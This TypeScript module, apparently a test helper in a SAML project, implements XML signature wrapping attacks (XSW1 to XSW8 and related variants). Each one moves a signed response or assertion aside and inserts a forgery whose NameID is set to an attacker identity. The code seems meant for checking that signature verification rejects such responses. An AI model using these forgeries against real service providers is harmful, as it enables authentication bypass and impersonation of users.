/** Signature wrapping (XSW 1 to 8) and its relatives, as edits of a signed response: a signed part moved aside, a forged one in its place. */
import { DOMParser, type Document, type Element, XMLSerializer } from "@xmldom/xmldom";
import { NS } from "../protocols/saml/names.ts";
import { ATTACKER, decode, encode } from "./saml-messages.ts";

type Parts = { document: Document; response: Element; assertion: Element; signature: Element };
export type Attack = (parts: Parts) => void;

/**
 * Wraps a signed response.
 * @param response base64, as the identity provider posts it
 * @param signed which of its signatures the attack is about
 */
export function wrap(response: string, signed: "response" | "assertion", act: Attack): string {
  const document = new DOMParser().parseFromString(decode(response), "text/xml");
  const root = document.documentElement as Element;
  const assertion = child(root, NS.assertion, "Assertion");
  const signature = child(signed === "response" ? root : assertion, NS.signature, "Signature");
  act({ document, response: root, assertion, signature });
  return encode(new XMLSerializer().serializeToString(document));
}

export function child(parent: Element, namespace: string, name: string): Element {
  const found = Array.from(parent.childNodes).find(
    (node) => node.localName === name && node.namespaceURI === namespace,
  );
  if (!found) throw new Error(`no ${name}`);
  return found as Element;
}

/** The copy keeps the ID or gets another; its identity becomes the attacker's. */
export function forge(element: Element, id?: string): Element {
  const copy = element.cloneNode(true) as Element;
  if (id) copy.setAttribute("ID", id);
  for (const node of Array.from(copy.getElementsByTagNameNS(NS.assertion, "NameID")))
    node.textContent = ATTACKER;
  return copy;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  for (const node of Array.from(copy.childNodes)) if (node.localName === "Signature") copy.removeChild(node);
  return copy;
}

export function newElement(document: Document, namespace: string, name: string, content: Element): Element {
  const made = document.createElementNS(namespace, name);
  made.appendChild(content);
  return made;
}

/** Turns the root into the forgery, the original response going wherever `place` puts it. */
function forgeRoot({ response }: Parts, id: string | undefined, place: (original: Element) => void): void {
  const original = withoutSignature(response);
  for (const node of Array.from(response.getElementsByTagNameNS(NS.assertion, "NameID")))
    node.textContent = ATTACKER;
  if (id) response.setAttribute("ID", id);
  place(original);
}

/** On a signed response. With an id the forgery gets that one, without it keeps its own. */
export const RESPONSE_ATTACKS: Record<string, (id?: string) => Attack> = {
  "XSW1, the signed response inside the signature": (id) => (parts) =>
    forgeRoot(parts, id, (original) => ownSignature(parts).appendChild(original)),
  "XSW2, the signed response beside the signature": (id) => (parts) =>
    forgeRoot(parts, id, (original) => parts.response.insertBefore(original, ownSignature(parts))),
  "the signed response in Extensions": (id) => (parts) =>
    forgeRoot(parts, id, (original) => {
      const extensions = newElement(parts.document, NS.protocol, "samlp:Extensions", original);
      parts.response.insertBefore(extensions, ownSignature(parts));
    }),
};

function ownSignature({ response }: Parts): Element {
  return child(response, NS.signature, "Signature");
}

/** On a response with a signed assertion. */
export const ASSERTION_ATTACKS: Record<string, (id?: string) => Attack> = {
  "XSW3, a forged assertion before the signed one": (id) => (parts) =>
    parts.response.insertBefore(withoutSignature(forge(parts.assertion, id)), parts.assertion),
  "a forged assertion behind the signed one": (id) => (parts) =>
    parts.response.appendChild(withoutSignature(forge(parts.assertion, id))),
  "XSW4, a forged assertion around the signed one": (id) => (parts) => {
    const forged = withoutSignature(forge(parts.assertion, id));
    parts.response.replaceChild(forged, parts.assertion);
    forged.appendChild(parts.assertion);
  },
  "XSW5, the signature in the forgery, the original at the end": (id) => (parts) => {
    parts.response.appendChild(withoutSignature(parts.assertion));
    parts.response.replaceChild(forge(parts.assertion, id), parts.assertion);
  },
  "XSW6, the original inside the signature of the forgery": (id) => (parts) => {
    const forged = forge(parts.assertion, id);
    child(forged, NS.signature, "Signature").appendChild(withoutSignature(parts.assertion));
    parts.response.replaceChild(forged, parts.assertion);
  },
  "XSW7, the forgery in Extensions": (id) => (parts) => {
    const extensions = newElement(
      parts.document,
      NS.protocol,
      "samlp:Extensions",
      forge(parts.assertion, id),
    );
    parts.response.insertBefore(extensions, parts.assertion);
  },
  "XSW8, the original in an Object of the signature": (id) => (parts) => {
    const forged = forge(parts.assertion, id);
    const original = newElement(parts.document, NS.signature, "Object", withoutSignature(parts.assertion));
    child(forged, NS.signature, "Signature").appendChild(original);
    parts.response.replaceChild(forged, parts.assertion);
  },
  "the original in the KeyInfo of the forgery": (id) => (parts) => {
    const forged = forge(parts.assertion, id);
    const keyInfo = child(child(forged, NS.signature, "Signature"), NS.signature, "KeyInfo");
    keyInfo.appendChild(withoutSignature(parts.assertion));
    parts.response.replaceChild(forged, parts.assertion);
  },
  "the original in the Advice of the forgery": (id) => (parts) => {
    const forged = withoutSignature(forge(parts.assertion, id));
    forged.appendChild(
      newElement(parts.document, NS.assertion, "saml:Advice", parts.assertion.cloneNode(true) as Element),
    );
    parts.response.replaceChild(forged, parts.assertion);
  },
  "a forged subject inside the signature": (_id) => (parts) => {
    const subject = forge(child(parts.assertion, NS.assertion, "Subject"));
    parts.signature.appendChild(subject);
  },
};
